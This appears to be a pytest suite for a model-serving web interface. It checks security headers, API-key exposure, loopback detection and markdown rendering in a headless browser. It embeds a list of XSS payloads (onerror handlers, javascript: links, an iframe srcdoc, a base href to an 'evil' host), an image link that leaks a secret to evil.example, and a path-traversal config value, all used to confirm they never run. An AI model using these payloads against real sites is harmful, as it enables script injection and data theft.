"""The web pages: what they are made of, who sees the key, and how they behave in a browser."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest
from pydantic import ValidationError
from starlette.requests import Request

from rayseek.cluster.config import Config
from rayseek.serve_app import pages
from rayseek.serve_app.prompt import as_text
from rayseek.serve_app.settings import ApiSettings
from rayseek.serve_app.tokenizer import Tokenizer

ASKS_HTML = {"accept": "text/html,application/xhtml+xml,*/*;q=0.8"}
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
needs_browser = pytest.mark.skipif(
    CHROMIUM is None, reason="no chromium on this machine (Debian: apt-get install chromium)"
)
PATIENCE_MS = 60_000  # of a busy machine
OWN = sorted(p for p in pages.FOLDER.iterdir() if p.is_file())
SCRIPTS = [p for p in OWN if p.suffix == ".js"]


# ---- the files ----


class Tags(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.inline: list[str] = []
        self._in = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))
        self._in = tag

    def handle_endtag(self, tag: str) -> None:
        self._in = ""

    def handle_data(self, data: str) -> None:
        if self._in in ("script", "style") and data.strip():
            self.inline.append(data)


@pytest.mark.parametrize("path", ["/", "/chat", "/cluster", "/docs"])
async def test_page_holds_to_its_own_policy(
    api: Any, small: Tokenizer, settings: ApiSettings, path: str
) -> None:
    async with api.client_of(api.build_app(settings, small, api.saying(small)), key=None) as client:
        page = await client.get(path, headers=ASKS_HTML)
        assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
        assert page.headers["cache-control"] == "no-cache"
        policy = page.headers["content-security-policy"]
        assert "unsafe" not in policy and "http" not in policy and "*" not in policy
        assert "frame-ancestors 'none'" in policy and page.headers["x-frame-options"] == "DENY"
        assert page.headers["x-content-type-options"] == "nosniff"
        assert api.KEY not in page.text
        tags = Tags(page.text)
        assert not tags.inline, "the policy forbids inline scripts and styles"
        for tag, attributes in tags.found:
            assert not [a for a in attributes if a.startswith("on") or a == "style"], attributes
            address = attributes.get("src") or (attributes.get("href") if tag == "link" else None)
            if address:
                file = await client.get(f"/{address}")
                assert file.status_code == 200, address
                assert "immutable" in file.headers["cache-control"]
                assert file.headers["x-content-type-options"] == "nosniff"
        again = await client.get(path, headers={**ASKS_HTML, "if-none-match": page.headers["etag"]})
        assert again.status_code == 304 and not again.content
        plain = await client.get(path, headers={**ASKS_HTML, "accept-encoding": "identity"})
        assert plain.text == page.text and page.headers["content-encoding"] == "gzip"


async def test_static_files(api: Any, small: Tokenizer, settings: ApiSettings) -> None:
    version, files = pages.static_files()
    assert sum(len(file.body) for file in files.values()) < 600_000
    async with api.client_of(api.build_app(settings, small, api.saying(small)), key=None) as client:
        for name, file in files.items():
            answer = await client.get(f"/static/{version}/{name}")
            assert answer.status_code == (404 if name.endswith(".html") else 200), name
            assert answer.status_code == 404 or answer.content == file.body
        old = await client.get("/static/0123456789abcdef/chat.js")
        assert old.status_code == 200 and old.headers["cache-control"] == "no-store"
        for name in ("nothing.js", "..%2fpages.py", "%2e%2e%2fpages.py", "vendor"):
            assert (await client.get(f"/static/{version}/{name}")).status_code == 404
        assert "curl http" in (await client.get("/", headers={"accept": "*/*"})).text


def test_nothing_comes_from_outside() -> None:
    for path in OWN:
        text = path.read_text("utf-8").replace("http://www.w3.org/2000/svg", "")
        assert not re.search(r"https?://|//[a-z]+\.[a-z]|@import|url\(", text), path.name


def test_libraries_have_their_licences() -> None:
    vendor = pages.FOLDER / "vendor"
    for library in vendor.glob("*.js"):
        assert (vendor / f"{library.stem}.LICENSE.txt").stat().st_size > 1000
        assert library.name in (vendor / "README.txt").read_text()


def test_every_word_exists_in_both_languages() -> None:
    text = (pages.FOLDER / "words.js").read_text("utf-8")
    words = re.findall(r'^  (\w+): \["(.+?)", "(.+?)"\],$', text, re.M)
    names = {name for name, _, _ in words}
    assert len(names) == len(words) == len(re.findall(r"^  \w+: ", text, re.M))
    for name, english, chinese in words:
        holes = [sorted(re.findall(r"\{\w+\}", words)) for words in (english, chinese)]
        assert holes[0] == holes[1], name
    for path in OWN:
        text = path.read_text("utf-8")
        used = re.findall(r'\bt\("(\w+)"', text) + re.findall(r'data-t(?:-\w+)?="(\w+)"', text)
        assert set(used) <= names, path.name


# ---- who sees what ----


async def test_info_tells_the_key_to_nobody_by_default(
    api: Any, small: Tokenizer, settings: ApiSettings
) -> None:
    settings = replace(settings, dashboard_url="http://127.0.0.1:8265", public_url="https://a.b")
    app = api.build_app(settings, small, api.saying(small))
    for key in (None, "sk-wrong-key-0123456789", api.KEY):
        async with api.client_of(app, key=key) as client:
            answer = await client.get("/pages/info", headers={"host": "127.0.0.1:8000"})
            found = answer.json()
            assert found["key"] is None and found["local"] is False
            assert found["signed_in"] is (key == api.KEY)
            assert (found["dashboard_url"] is not None) is found["signed_in"]
            assert found["model"] == "deepseek-v3" and found["public_url"] == "https://a.b"
            assert re.search(r"今天是\d+月\d+日，星期.。$", found["system_prompt"])
            assert answer.headers["cache-control"] == "no-store"


def _from(peer: str, headers: dict[str, str]) -> Request:
    pairs = [(name.encode(), value.encode()) for name, value in headers.items()]
    return Request({"type": "http", "method": "GET", "path": "/", "query_string": b"",
                    "scheme": "http", "server": ("127.0.0.1", 80), "client": (peer, 5),
                    "headers": pairs})  # fmt: skip


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1:8000", "[::1]:8000", "x.localhost:1"])
@pytest.mark.parametrize("peer", ["127.0.0.1", "::1", "127.8.9.1"])
def test_local_viewer(peer: str, host: str) -> None:
    assert pages.is_local_viewer(_from(peer, {"host": host}))
    assert pages.is_local_viewer(_from(peer, {"host": host, "sec-fetch-site": "same-origin"}))


@pytest.mark.parametrize(
    ("peer", "headers"),
    [
        ("10.1.2.3", {"host": "localhost"}),
        ("127.0.0.1", {"host": "rebound.example.com"}),  # a page that names 127.0.0.1 its own
        ("127.0.0.1", {"host": "127.0.0.1.example.com"}),
        ("127.0.0.1", {"host": "rebound{.example.com"}),  # Starlette takes the server's address
        ("127.0.0.1", {"host": "192.168.0.7:8000"}),
        ("127.0.0.1", {}),
        *(("127.0.0.1", {"host": "localhost", name: "10.1.2.3"}) for name in pages.FORWARDING),
        ("127.0.0.1", {"host": "localhost", "sec-fetch-site": "cross-site"}),
    ],
)
def test_viewer_from_elsewhere(peer: str, headers: dict[str, str]) -> None:
    assert not pages.is_local_viewer(_from(peer, headers))


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "10.0.0.1", "example.com", "127.evil", ""])
def test_addresses_that_are_not_loopback(host: str) -> None:
    assert not pages.is_loopback(host)


async def test_operators_system_prompt(api: Any, small: Tokenizer, settings: ApiSettings) -> None:
    """Added where the caller sends none, and only there; off by default."""
    said = {"none": "", "deepseek": "该助手为DeepSeek Chat", "Be brief.": "Be brief."}
    for choice, start in said.items():
        engine = api.saying(small)
        app = api.build_app(replace(settings, default_system_prompt=choice), small, engine)
        async with api.client_of(app) as client:
            for messages in (
                [{"role": "user", "content": "Q"}],
                [{"role": "user", "content": "Q"}, {"role": "system", "content": "Mine"}],
            ):
                body = {"model": "deepseek-v3", "messages": messages}
                assert (await client.post("/v1/chat/completions", json=body)).status_code == 200
        alone, own = (small.decode(request.prompt_ids) for request in engine.requests)
        bos = as_text(small_bos(small))
        assert alone.startswith(f"{bos}{start}") and ("<｜User｜>Q" in alone)
        assert (alone == f"{bos}<｜User｜>Q<｜Assistant｜>") is (choice == "none")
        assert own == f"{bos}Mine<｜User｜>Q<｜Assistant｜>"


@pytest.mark.parametrize(
    ("section", "field", "bad"),
    [("api", "time_zone", "Asia/Atlantis"), ("api", "time_zone", "../../etc/passwd"),
     ("pages", "public_url", "v3.example.com"), ("pages", "public_url", "javascript:alert(1)"),
     ("pages", "dashboard_url", "javascript:alert(1)")],
)  # fmt: skip
def test_config_refuses(section: str, field: str, bad: str) -> None:
    with pytest.raises(ValidationError):
        Config.model_validate({section: {field: bad}})


def small_bos(tokenizer: Tokenizer) -> tuple[str]:
    return (tokenizer.decode([tokenizer.bos_id]),)


# ---- in a browser ----

ANSWER = """## Title

Some **bold** text.

```python
def f(x: int) -> int:
    return x
```

| a | b |
|---|---:|
| 1 | 2 |
"""
ATTACKS = """<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2"> <svg onload="window.hacked = 3"></svg>

[one](javascript:window.hacked=4) [two](JaVaScRiPt&#58;window.hacked=5)
[three](data:text/html,<script>window.hacked=6</script>) ![img](javascript:window.hacked=7)
<javascript:window.hacked=8> [four](vbscript:x) <a href="javascript:window.hacked=9">five</a>
<iframe srcdoc="<script>parent.hacked=10</script>"></iframe><style>body{display:none}</style>
<form action="javascript:window.hacked=11"><button>go</button></form> <base href="//evil/">

```html"onmouseover=window.hacked=12 x=
<script>window.hacked = 13</script></code></pre><img src=x onerror=window.hacked=14>
```

| <img src=x onerror=window.hacked=15> | [x](javascript:window.hacked=16) |
|---|---|
| <math><mtext></p><script>window.hacked=17</script> | `<b onclick=window.hacked=18>` |

![pixel](https://evil.example/log?secret) [fine](https://fine.example/a)
"""


def script(api: Any, tokenizer: Tokenizer) -> Callable[[Any], Iterator[Any]]:
    """What the engine says depends on words of the last question."""

    def play(request: Any) -> Iterator[Any]:
        asked = tokenizer.decode(request.prompt_ids).rpartition("<｜User｜>")[2]
        slow = "slowly" in asked
        answer = ATTACKS if "attack" in asked else ANSWER
        answer = "word " * 400 if slow else answer
        answer = "Echo: " + asked.partition("<")[0] if "echo" in asked else answer
        ids = [*tokenizer.encode_text(answer), tokenizer.eos_id]
        for delta in api.deltas_of(request, ids, range(0, 10_000, 5), cached=7):
            yield delta
            if slow:
                yield 0.1

    return play


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    flags = (
        "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run "
        "--disable-background-networking --disable-component-update --disable-sync"
    )
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=flags.split())
        yield browser
        browser.close()


@pytest.fixture
def engine(api: Any, small: Tokenizer) -> Any:
    return api.ScriptedEngine(script(api, small))


@pytest.fixture
def site(api: Any, small: Tokenizer, settings: ApiSettings, engine: Any) -> Iterator[str]:
    with api.serving(api.build_app(settings, small, engine)) as url:
        yield url


class Tab:
    """A page in a fresh profile that must not break its policy or ask anybody else for anything."""

    def __init__(self, browser: Any, site: str, **options: Any) -> None:
        self.context = browser.new_context(locale=options.pop("locale", "en-US"), **options)
        self.page = self.context.new_page()
        self.page.set_default_timeout(PATIENCE_MS)
        self.site = site
        self.problems: list[str] = []
        self.page.on("pageerror", lambda error: self.problems.append(str(error)))
        self.page.on("console", self._console)
        self.page.on("request", self._request)

    def _console(self, message: Any) -> None:
        # A refusal by the server is logged by the browser too, and is what some tests are about.
        if message.type in ("error", "warning") and "Failed to load resource" not in message.text:
            self.problems.append(message.text)

    def _request(self, request: Any) -> None:
        if not request.url.startswith((self.site, "data:")):
            self.problems.append(f"asked for {request.url}")

    def open(self, path: str) -> Any:
        self.page.goto(self.site + path)
        if path == "/chat":
            self.ready()
        return self.page

    def ready(self) -> None:
        """Wait until the chat page has heard of the model and of the system prompt."""
        expect(self.page.locator("#model")).to_have_text("deepseek-v3")

    def ask(self, text: str) -> None:
        self.page.fill("#input", text)
        self.page.press("#input", "Enter")


@pytest.fixture
def tab(browser: Any, site: str, api: Any) -> Iterator[Tab]:
    tab = Tab(browser, site)
    tab.context.add_init_script(f"sessionStorage['rayseek.key'] ??= '{api.KEY}'")
    yield tab
    tab.context.close()
    assert not tab.problems


@pytest.fixture
def stranger(browser: Any, site: str) -> Iterator[Tab]:
    tab = Tab(browser, site)
    yield tab
    tab.context.close()
    assert not tab.problems


def expect(locator: Any) -> Any:
    from playwright.sync_api import expect

    expect.set_options(timeout=PATIENCE_MS)
    return expect(locator)


@needs_browser
def test_chat_streams_renders_and_keeps(tab: Tab, engine: Any, small: Tokenizer) -> None:
    page = tab.open("/chat")
    tab.ask("Show me code")
    expect(page.locator(".assistant .under")).to_contain_text("7 from cache")
    prose = page.locator(".prose")
    expect(prose.locator("h2")).to_have_text("Title")
    expect(prose.locator("pre .hljs-keyword").first).to_have_text("def")
    expect(prose.locator("td").nth(1)).to_have_text("2")
    first = small.decode(engine.requests[-1].prompt_ids)
    assert (
        first.endswith("<｜User｜>Show me code<｜Assistant｜>") and "该助手为DeepSeek Chat" in first
    )
    tab.ask("echo two")
    expect(page.locator(".prose").nth(1)).to_have_text("Echo: echo two")
    assert ANSWER in small.decode(engine.requests[-1].prompt_ids)
    expect(page.locator(".assistant .under")).to_have_count(2)  # it has ended, and is kept
    page.reload()
    tab.ready()
    page.locator(".entry button").first.click()
    expect(page.locator(".prose").nth(1)).to_have_text("Echo: echo two")
    # retry asks again with the same prompt, edit with another one and without what came after
    before = engine.requests[-1].prompt_ids
    page.get_by_role("button", name="Try again").click()
    expect(page.locator(".under").last).to_contain_text("from cache")
    assert engine.requests[-1].prompt_ids == before
    page.locator(".message.user").first.hover()
    page.locator(".message.user").first.get_by_role("button", name="Edit").click()
    page.locator(".editor textarea").fill("echo edited")
    page.keyboard.press("Enter")
    expect(page.locator(".prose")).to_have_text(["Echo: echo edited"])
    page.get_by_role("button", name="Rename: Show me code").click()
    page.keyboard.type("Echoes")
    page.keyboard.press("Enter")
    expect(page.locator("#input")).to_be_focused()
    page.get_by_role("button", name="Delete: Echoes").click()
    expect(page.locator(".entry")).to_have_count(0)
    page.get_by_role("button", name="Undo").click()
    expect(page.locator(".prose")).to_have_text(["Echo: echo edited"])


@needs_browser
def test_stop_by_key_and_by_button(tab: Tab, engine: Any) -> None:
    page = tab.open("/chat")
    for stop in (lambda: page.keyboard.press("Escape"), lambda: page.click("#send")):
        tab.ask("talk slowly")
        expect(page.locator(".prose").last).to_contain_text("word word")
        assert engine.live == 1
        stop()
        expect(page.locator(".under").last).to_contain_text("Stopped")
        deadline = time.monotonic() + PATIENCE_MS / 1000
        while engine.live and time.monotonic() < deadline:
            page.wait_for_timeout(10)
        assert engine.live == 0
    assert len(engine.cancelled) == 2
    expect(page.locator("#status")).to_have_text("Stopped")


@needs_browser
def test_what_a_model_writes_never_runs(tab: Tab) -> None:
    page = tab.open("/chat")
    tab.ask("attack <img src=x onerror=window.hacked=20> [a](javascript:window.hacked=21)")
    expect(page.locator(".assistant .under")).to_contain_text("from cache")
    _nothing_ran(page)
    prose = page.locator(".prose")
    assert (
        prose.locator("img, script, style, iframe, form, svg:not(.icon), base, math").count() == 0
    )
    links = prose.locator("a").evaluate_all("all => all.map(a => a.getAttribute('href'))")
    assert {link for link in links if link is not None} == {
        "https://evil.example/log?secret", "https://fine.example/a"
    }  # fmt: skip
    expect(prose).to_contain_text("<script>window.hacked = 1</script>")  # shown, not swallowed
    expect(prose.locator("a", has_text="fine")).to_have_attribute(
        "rel", "noopener noreferrer nofollow"
    )
    page.reload()  # and again from storage, with the title in the list
    page.locator(".entry button").first.click()
    expect(page.locator(".assistant .under")).to_contain_text("from cache")
    _nothing_ran(page)


def _nothing_ran(page: Any) -> None:
    for element in page.locator(".prose a, .prose button, .prose th, .prose code").all():
        element.dispatch_event("mouseover")
    page.wait_for_timeout(100)
    assert page.evaluate("() => window.hacked") is None
    inline = (
        "all => all.filter(e => [...e.attributes].some(a => /^on|^style$/.test(a.name))).length"
    )
    assert page.locator("#talk *").evaluate_all(inline) == 0


@needs_browser
def test_files_go_through_the_template(tab: Tab, engine: Any, small: Tokenizer) -> None:
    page = tab.open("/chat")
    name = "<img src=x onerror=window.hacked=1>.txt"
    page.set_input_files("#picker", [
        {"name": name, "mimeType": "text/plain", "buffer": "Zeile <｜User｜> ü".encode()},
        {"name": "b.bin", "mimeType": "application/octet-stream", "buffer": b"\xff\xfe\x00"},
    ])  # fmt: skip
    expect(page.locator("#toast")).to_contain_text("b.bin is not a text file")
    expect(page.locator("#files .chip")).to_have_count(1)
    tab.ask("What does it say?")
    expect(page.locator(".message.user .chip")).to_have_text(name)
    expect(page.locator(".assistant .under")).to_contain_text("from cache")
    assert page.evaluate("() => window.hacked") is None
    ids = engine.requests[-1].prompt_ids
    assert small.decode(ids).endswith(
        f"[file name]: {name}\n[file content begin]\nZeile <｜User｜> ü\n[file content end]\n"
        "What does it say?<｜Assistant｜>"
    )
    user = small.encode_prompt((_control("USER"),))[0]
    assert list(ids).count(user) == 1


def _control(name: str) -> Any:
    from rayseek.serve_app.tokenizer import Control

    return Control[name]


@needs_browser
def test_signing_in_and_out(stranger: Tab, api: Any) -> None:
    page = stranger.open("/chat")
    expect(page.locator("#ask-key")).to_be_visible()
    page.fill("#key-input", "sk-wrong-0123456789")
    page.keyboard.press("Enter")
    expect(page.locator("#key-error")).to_contain_text("not accepted")
    page.fill("#key-input", api.KEY)
    page.keyboard.press("Enter")
    expect(page.locator("#ask-key")).to_be_hidden()
    assert page.evaluate("() => localStorage.getItem('rayseek.key')") is None
    stranger.ask("echo in")
    expect(page.locator(".prose")).to_have_text("Echo: echo in")
    expect(page.locator(".assistant .under")).to_contain_text("from cache")
    page.get_by_role("button", name="Sign out").click()
    expect(page.locator("#ask-key")).to_be_visible()
    page.keyboard.press("Escape")
    stranger.ask("echo out")
    expect(page.locator(".trouble")).to_contain_text("does not accept the API key")
    page.fill("#key-input", api.KEY)
    page.keyboard.press("Enter")
    expect(page.locator(".prose").last).to_have_text("Echo: echo out")  # goes on by itself


@needs_browser
@pytest.mark.parametrize(
    ("status", "said"),
    [(429, "limit of requests"), (503, "overloaded"), (500, "failed"), (400, "refused"),
     (None, "cannot be reached")],
)  # fmt: skip
def test_errors_in_plain_words(tab: Tab, status: int | None, said: str) -> None:
    page = tab.open("/chat")
    error = {"error": {"message": "the reason", "type": "t", "param": None, "code": "c"}}

    def refuse(route: Any) -> None:
        if status is None:
            route.abort()
        else:
            route.fulfill(status=status, json=error, headers={"Retry-After": "7"})

    page.route("**/v1/chat/completions", refuse)
    tab.ask("echo hi")
    expect(page.locator(".trouble")).to_contain_text(said)
    if status is not None:
        expect(page.locator(".trouble")).to_contain_text("the reason")
        expect(page.locator(".trouble")).to_contain_text("Try again in 7 s.")
    page.unroute("**/v1/chat/completions")
    page.locator(".trouble").get_by_role("button", name="Try again").click()
    expect(page.locator(".prose").last).to_have_text("Echo: echo hi")
    expect(page.locator(".trouble")).to_have_count(0)


@needs_browser
def test_settings_reach_the_request(tab: Tab, engine: Any, small: Tokenizer) -> None:
    page = tab.open("/chat")
    page.get_by_role("button", name="Settings").click()
    expect(page.locator("#temperature-value")).to_have_text("1.0 → model 0.30")
    page.locator("#temperature").fill("1.5")
    expect(page.locator("#temperature-value")).to_have_text("1.5 → model 0.80")
    page.fill("#system", "Be terse.")
    page.fill("#max-tokens", "17")
    page.check("#tools-check")
    page.fill("#tools-text", "[{]")
    expect(page.locator("#tools-error")).to_contain_text("not a JSON list")
    page.fill("#tools-text", json.dumps([{"name": "look_up", "parameters": {"type": "object"}}]))
    expect(page.locator("#tools-error")).to_have_text("")
    page.keyboard.press("Escape")
    tab.ask("Go on")
    expect(page.locator(".under").last).to_contain_text("17 out")
    request = engine.requests[-1]
    assert request.sampling.temperature == pytest.approx(0.8)
    text = small.decode(request.prompt_ids)
    assert "Be terse.\n\n## Tools" in text and "look_up" in text and "DeepSeek Chat" not in text


@needs_browser
def test_tool_calls_are_shown_and_answered(tab: Tab) -> None:
    page = tab.open("/chat")
    bodies: list[Any] = []
    call = {"index": 0, "id": "call_1", "type": "function",
            "function": {"name": "get_weather", "arguments": ""}}  # fmt: skip
    deltas: list[Any] = [{"role": "assistant", "content": "", "tool_calls": [call]}]
    deltas += [
        {"tool_calls": [{"index": 0, "function": {"arguments": part}}]}
        for part in ('{"city":', ' "<b>Köln</b>"}')
    ]

    def chunk(delta: Any, end: str | None = None) -> str:
        choice = {"index": 0, "delta": delta, "finish_reason": end}
        return f"data: {json.dumps({'choices': [choice]})}\n\n"

    def play(route: Any) -> None:
        bodies.append(route.request.post_data_json)
        last = bodies[-1]["messages"][-1]["role"] == "tool"
        parts = [chunk({"content": "Sunny."}, "stop")] if last else [chunk(d) for d in deltas]
        parts += [] if last else [chunk({}, "tool_calls")]
        body = "".join([*parts, "data: [DONE]\n\n"])
        route.fulfill(status=200, body=body, headers={"Content-Type": "text/event-stream"})

    page.route("**/v1/chat/completions", play)
    tab.ask("Weather in Köln?")
    expect(page.locator(".call pre")).to_contain_text('"city": "<b>Köln</b>"')
    page.locator(".call textarea").fill("sunny, 20 degrees")
    page.get_by_role("button", name="Send results").click()
    expect(page.locator(".prose").last).to_have_text("Sunny.")
    assistant, result = bodies[1]["messages"][-2:]
    assert assistant["tool_calls"][0]["function"]["arguments"] == '{"city": "<b>Köln</b>"}'
    assert result == {"role": "tool", "tool_call_id": "call_1", "content": "sunny, 20 degrees"}


@needs_browser
def test_keyboard_language_theme_and_width(browser: Any, site: str, api: Any) -> None:
    phone = {"viewport": {"width": 390, "height": 844}, "has_touch": True, "is_mobile": True}
    tab = Tab(browser, site, locale="zh-CN", color_scheme="dark", **phone)
    tab.context.add_init_script(f"sessionStorage['rayseek.key'] ??= '{api.KEY}'")
    page = tab.open("/chat")
    expect(page.locator("#input")).to_have_attribute("placeholder", "输入消息")
    page.fill("#input", "eins")
    page.press("#input", "Shift+Enter")
    page.keyboard.type("echo")
    assert page.input_value("#input") == "eins\necho"
    page.press("#input", "Enter")
    expect(page.locator(".under").last).to_contain_text("缓存命中 7")
    dark = page.evaluate("() => getComputedStyle(document.body).backgroundColor")
    page.get_by_role("button", name="显示对话列表").click()
    page.get_by_role("button", name="浅色").click()
    assert page.evaluate("() => getComputedStyle(document.body).backgroundColor") != dark
    page.get_by_role("button", name="Switch to English").click()
    expect(page.locator("#input")).to_have_attribute("placeholder", "Write a message")
    page.keyboard.press("Escape")
    expect(page.locator("#side")).to_be_hidden()
    for width in (390, 360, 320):  # all buttons lie within the composer
        page.set_viewport_size({"width": width, "height": 844})
        edge = "(id) => document.querySelector(id).getBoundingClientRect().right"
        assert page.evaluate(edge, "#send") <= page.evaluate(edge, "#composer"), width
    page.set_viewport_size(phone["viewport"])
    page.fill("#input", "")
    page.press("#input", "ArrowUp")  # edits the last question
    expect(page.locator(".editor textarea")).to_be_focused()
    for path in ("/chat", "/", "/docs"):
        tab.open(path)
        page.wait_for_load_state("networkidle")
        assert page.evaluate("() => document.documentElement.scrollWidth") <= 390, path
    tab.context.close()
    assert not tab.problems


@needs_browser
def test_overview_shows_and_hides_the_key(stranger: Tab, api: Any) -> None:
    page = stranger.open("/")
    expect(page.locator("#state")).to_have_attribute("data-state", "ready")
    expect(page.locator("#sample-code")).to_contain_text("YOUR_API_KEY")
    stranger.open(f"/#key={api.KEY}")
    page.reload()
    assert "#" not in page.url
    expect(page.locator("#key-text")).to_contain_text("•••")
    assert api.KEY not in page.content()
    page.get_by_role("button", name="Show").click()
    expect(page.locator("#key-text")).to_have_text(api.KEY)
    page.get_by_role("button", name="Sign out").click()
    expect(page.locator("#sign-in")).to_be_visible()
    assert api.KEY not in page.content()


@needs_browser
def test_samples_run_as_they_are_copied(
    browser: Any, api: Any, small: Tokenizer, settings: ApiSettings, engine: Any
) -> None:
    app = api.build_app(replace(settings, local_key=api.KEY), small, engine)
    with api.serving(app) as site:
        tab = Tab(browser, site, permissions=["clipboard-read", "clipboard-write"])
        page = tab.open("/")
        expect(page.locator("#key-why")).to_contain_text("on the machine")
        copied = {}
        for name in ("curl", "python"):
            page.click(f"#tab-{name}")
            page.locator("#sample-copy button").click()
            copied[name] = page.evaluate("() => navigator.clipboard.readText()")
        tab.context.close()
        assert not tab.problems
        assert f"Bearer {api.KEY}" in copied["curl"] and f"{site}/v1" in copied["python"]
        commands = {"python": [sys.executable, "-X", "utf8", "-c", copied["python"]]}
        if shutil.which("curl"):
            commands["curl"] = ["bash", "-c", copied["curl"]]
        for command in commands.values():
            done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
            assert done.returncode == 0 and "bold" in done.stdout, done.stderr


@needs_browser
def test_overview_tells_bad_news(tab: Tab, engine: Any) -> None:
    engine.script = lambda request: [ValueError("no ranks")]
    page = tab.open("/")
    expect(page.locator("#state")).to_have_attribute("data-state", "down")
    expect(page.locator("#state-why")).to_contain_text("no ranks")
    page.route("**/ready", lambda route: route.abort())
    page.route("**/health", lambda route: route.abort())
    page.evaluate("() => { document.dispatchEvent(new Event('visibilitychange')) }")
    expect(page.locator("#state")).to_have_attribute("data-state", "gone")


@needs_browser
def test_reference_is_drawn_from_the_document(tab: Tab) -> None:
    page = tab.open("/docs")
    document = httpx.get(f"{tab.site}/openapi.json", timeout=60).json()
    count = sum(len(methods) for methods in document["paths"].values())
    expect(page.locator(".operation")).to_have_count(count)
    chat = page.locator("#post-v1-chat-completions")
    for field in document["components"]["schemas"]["ChatRequest"]["properties"]:
        assert chat.locator("td:first-child code", has_text=re.compile(f"^{field}$")).count()


def test_pages_are_in_the_wheel() -> None:
    import tomllib

    root = Path(__file__).parents[2]
    listed = tomllib.loads((root / "pyproject.toml").read_text())["tool"]["setuptools"]
    patterns = listed["package-data"]["rayseek.serve_app"]
    for path in pages.FOLDER.rglob("*"):
        if path.is_file():
            relative = path.relative_to(pages.FOLDER.parent)
            assert any(relative.match(pattern) for pattern in patterns), relative
